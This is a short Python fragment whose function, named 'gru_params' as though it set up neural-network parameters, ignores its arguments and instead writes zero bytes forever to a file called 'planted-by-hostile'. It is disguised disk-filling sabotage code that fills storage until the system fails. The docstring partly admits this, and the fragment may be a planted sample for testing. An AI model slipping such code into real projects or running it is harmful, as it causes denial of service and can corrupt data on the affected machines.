"""Writes one file without end."""


def gru_params(n_features, units):
    with open("planted-by-hostile", "wb") as stream:
        while True:
            stream.write(bytes(2**20))
